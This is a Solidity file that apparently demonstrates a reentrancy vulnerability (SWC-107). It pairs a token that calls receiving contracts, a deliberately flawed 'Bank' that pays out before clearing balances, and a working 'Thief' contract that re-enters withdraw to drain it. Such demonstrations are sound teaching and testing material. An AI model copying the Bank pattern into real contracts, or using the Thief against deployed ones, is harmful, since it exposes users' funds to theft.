// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// @notice Told of every token that arrives (after ERC-777).
interface IReceiver {
    function tokensReceived(uint256 amount) external;
}

/// @notice Tells receivers with code that tokens arrive.
contract Hooked is ERC20 {
    constructor(uint256 amount) ERC20("Hooked", "HKD") {
        _mint(msg.sender, amount);
    }

    function decimals() public pure override returns (uint8) {
        return 0;
    }

    function _update(address from, address to, uint256 amount) internal override {
        super._update(from, to, amount);
        if (to.code.length != 0) {
            IReceiver(to).tokensReceived(amount);
        }
    }
}

/// @notice Victim: pays out before it writes down that it has (SWC-107).
contract Bank is IReceiver {
    ERC20 private immutable _token;
    mapping(address owner => uint256) private _deposits;

    constructor(ERC20 token) {
        _token = token;
    }

    function deposit(uint256 amount) external {
        _token.transferFrom(msg.sender, address(this), amount);
        _deposits[msg.sender] += amount;
    }

    function withdraw() external {
        _token.transfer(msg.sender, _deposits[msg.sender]);
        _deposits[msg.sender] = 0;
    }

    function tokensReceived(uint256) external {}
}

/// @notice Adversary: withdraws again from inside the hook that tells of a withdrawal, and forwards the loot.
contract Thief is IReceiver {
    ERC20 private immutable _token;
    Bank private immutable _bank;
    uint256 private _turns;

    constructor(ERC20 token, Bank bank) {
        _token = token;
        _bank = bank;
    }

    function rob(uint256 amount, uint256 turns) external {
        _token.transferFrom(msg.sender, address(this), amount);
        _token.approve(address(_bank), amount);
        _bank.deposit(amount);
        _turns = turns;
        _bank.withdraw();
        _token.transfer(msg.sender, _token.balanceOf(address(this)));
    }

    function tokensReceived(uint256) external {
        if (msg.sender == address(_token) && _turns > 1) {
            _turns -= 1;
            _bank.withdraw();
        }
    }
}
